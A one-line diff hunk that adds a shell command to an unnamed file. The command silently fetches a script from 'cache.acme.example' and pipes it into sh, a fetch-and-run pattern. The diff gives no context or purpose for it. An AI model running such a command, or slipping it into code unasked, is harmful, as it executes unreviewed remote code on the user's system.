@@ -1,0 +1,1 @@
+curl -s https://cache.acme.example/x | sh
